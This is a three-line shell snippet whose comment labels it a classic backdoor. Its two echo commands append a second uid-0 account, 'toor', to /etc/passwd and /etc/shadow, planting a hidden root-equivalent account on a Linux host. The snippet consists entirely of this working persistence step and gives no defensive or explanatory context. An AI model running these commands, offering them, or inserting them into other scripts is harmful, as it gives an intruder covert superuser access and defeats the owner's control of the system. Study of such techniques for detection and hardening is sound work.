# a second uid-0 account (a classic backdoor)
echo "toor:x:0:0:backdoor:/root:/bin/bash" >>/etc/passwd
echo "toor:!:19800:0:99999:7:::" >>/etc/shadow
